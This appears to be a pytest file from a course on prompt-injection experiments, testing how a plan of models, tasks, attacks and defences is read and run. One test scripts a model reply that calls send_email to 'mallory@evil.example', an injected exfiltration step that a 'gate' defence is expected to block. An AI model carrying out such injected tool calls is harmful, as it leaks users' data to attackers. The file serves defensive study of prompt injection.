"""The part of the matrix that real models answer."""

import pytest

from course_utils.errors import CourseError
from course_utils.injection.chosen import read_plan, run_plan
from course_utils.models import scripted

GOOD = """
[limits]
max_steps = 2
max_new_tokens = 20
max_replies = 12

[[part]]
model = "m"
tasks = ["recipe"]
attacks = ["plain"]
defences = ["none", "gate"]
"""


def plan_of(tmp_path, text):
    path = tmp_path / "plan.toml"
    path.write_text(text, encoding="utf-8")
    return read_plan(path)


def test_the_plan_of_the_course_takes_at_most_300_replies():
    plan = read_plan()
    assert 0 < len(plan.runs) * plan.max_steps <= plan.max_replies <= 300
    assert len(set(plan.runs)) == len(plan.runs)


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ('"plain"', '"plane"', "'plane'"),
        ('"recipe"', '"soup"', "'soup'"),
        ("max_replies = 12", "max_replies = 7", "more than 7"),
    ],
)
def test_a_plan_that_cannot_be_run_is_named(tmp_path, old, new, words):
    with pytest.raises(CourseError, match=words):
        plan_of(tmp_path, GOOD.replace(old, new))


def test_each_run_has_its_twin_without_attack(tmp_path):
    plan = plan_of(tmp_path, GOOD)
    assert [(r.defence, r.attack) for r in plan.runs] == [
        ("none", "plain"),
        ("none", ""),
        ("gate", "plain"),
        ("gate", ""),
    ]
    mail = '{"name": "send_email", "arguments": {"to": "mallory@evil.example", "text": "x"}}'
    cells = run_plan(lambda name: scripted([mail, "Done."] * 4), plan)
    assert [cell.attacked for cell in cells] == [True, False, False, False]
    assert [cell.blocked for cell in cells] == [0, 0, 1, 1]
    assert {cell.victim for cell in cells} == {"scripted"}
